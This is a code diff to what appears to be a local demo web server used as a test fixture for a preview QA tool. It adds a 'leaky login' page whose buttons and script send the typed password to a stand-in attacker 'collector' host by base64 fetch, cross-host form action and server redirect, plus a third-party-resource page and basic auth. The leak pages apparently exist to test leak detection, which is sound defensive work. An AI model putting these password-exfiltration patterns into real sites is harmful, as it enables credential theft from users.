@@ -2,12 +2,13 @@
 
 from __future__ import annotations
 
+import base64
 import html
 import secrets
 import threading
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any, Self, cast
-from urllib.parse import parse_qs, urlencode, urlsplit
+from urllib.parse import parse_qs, quote, urlencode, urlsplit
 
 from preview_qa.demo import todo
 
@@ -132,6 +133,34 @@ _EXTERNAL = _page(
     '<h1>External link</h1><p><a href="http://example.invalid/">Leave site</a></p>',
 )
 
+COLLECTOR_HOST = "localhost"  # the same server under a second host name: an attacker's, for the secret-leak pages
+
+
+def _leaky_page(collector: str) -> bytes:
+    """A login whose buttons carry the password off the preview: a form posting to another host, a form whose server
+    redirects there, and a script that sends it (base64 in a fetch's body, then in the URL of a navigation)."""
+    return _page(
+        "Leaky login - Acme",
+        '<h1>Leaky login</h1><form method="get" action="/relay">'
+        '<label for="password">Password</label><input id="password" name="pw" type="password" placeholder="Password">'
+        f'<button formaction="{collector}/collect">Sign in elsewhere</button>'
+        '<button>Sign in via relay</button>'
+        '<button type="button" onclick="leak()">Continue</button></form>',
+        script=f"function leak() {{ var v = document.getElementById('password').value;"
+               f" fetch('{collector}/collect', {{method: 'POST', mode: 'no-cors', body: btoa(v)}})"
+               f".catch(function () {{}}).finally(function () {{"
+               f" location.href = '{collector}/collect?v=' + encodeURIComponent(v); }}); }}",
+    )
+
+
+def _third_party_page(other: str) -> bytes:
+    """A preview page that loads an image, a script, a frame and a fetch from another origin."""
+    return _page("Third-party page - Acme",
+                 f'<h1>Third-party page</h1><img src="{other}/pixel.gif" alt=""><script src="{other}/lib.js"></script>'
+                 f'<iframe src="{other}/frame" title="widget"></iframe>',
+                 script=f"fetch('{other}/api', {{mode: 'no-cors'}}).catch(function () {{}});")
+
+
 _APP_LOGIN = _page(
     "Log in - Acme app",
     '<h1>Log in to the app</h1><form method="post" action="/app/login" id="login">'
@@ -227,6 +256,7 @@ class _Handler(BaseHTTPRequestHandler):
         with self.site._lock:
             self.site.requests.append(self.path)
             self.site.request_log.append((self.command, self.path))
+            self.site.header_log.append((self._host(), self.path, dict(self.headers.items())))
         return urlsplit(self.path).path
 
     def _send(
@@ -268,8 +298,23 @@ class _Handler(BaseHTTPRequestHandler):
     def do_HEAD(self) -> None:
         self.do_GET()
 
+    def _authorized(self) -> bool:
+        """Basic auth, when the site asks for it; otherwise a 401 challenge was sent."""
+        auth = self.site.basic_auth
+        if auth is None or self._host() == COLLECTOR_HOST:
+            return True
+        if self.headers.get("Authorization", "") == "Basic " + base64.b64encode(":".join(auth).encode()).decode():
+            return True
+        self._send(401, b"", {"WWW-Authenticate": 'Basic realm="preview"'})
+        return False
+
+    def _host(self) -> str:
+        return urlsplit(f"//{self.headers.get('Host', '')}").hostname or ""
+
     def do_GET(self) -> None:
         path = self._record()
+        if not self._authorized():
+            return
         query = parse_qs(urlsplit(self.path).query)
         pages = {
             "/": _HOME,
@@ -291,6 +336,14 @@ class _Handler(BaseHTTPRequestHandler):
             self._send(200, _page(title, body, script=script))
         elif path == "/search":
             self._send(200, _search_page((query.get("code") or [""])[0], self.headers.get("X-Preview-Token", "")))
+        elif path == "/third-party":
+            self._send(200, _third_party_page(f"http://{COLLECTOR_HOST}:{self.server.server_address[1]}"))
+        elif path in ("/leaky", "/relay"):
+            collector = f"http://{COLLECTOR_HOST}:{self.server.server_address[1]}"
+            if path == "/leaky":
+                self._send(200, _leaky_page(collector))
+            else:  # the preview's own server sends the password on
+                self._send(302, b"", {"Location": f"{collector}/collect?v={quote((query.get('pw') or [''])[0])}"})
         elif path == "/app/login":
             self._send(200, _APP_LOGIN)
         elif path in APP_PAGES:
@@ -340,6 +393,8 @@ class _Handler(BaseHTTPRequestHandler):
 
     def do_POST(self) -> None:
         path = self._record()
+        if not self._authorized():
+            return
         form = self._form()
         site = self.site
         if "slow" in parse_qs(urlsplit(self.path).query):
@@ -456,9 +511,11 @@ class DemoSite(BackgroundServer):
     handler = _Handler
 
     def __init__(self, password: str = "demo-pass-123", port: int = 0, host: str = "127.0.0.1",
-                 production: bool = False) -> None:
+                 production: bool = False, basic_auth: tuple[str, str] | None = None) -> None:
         super().__init__(port, host)
         self.password, self.production = password, production
+        self.basic_auth = basic_auth  # (user, password) every request to `host` needs (COLLECTOR_HOST's do not)
+        self.header_log: list[tuple[str, str, dict[str, str]]] = []  # (host name, path, headers) of every request
         self._loads: dict[str, int] = {}  # GETs per path and query, for pages that change after their first load
         self.requests: list[str] = []  # every request's path (with query), in order
         self.request_log: list[tuple[str, str]] = []  # (method, path)
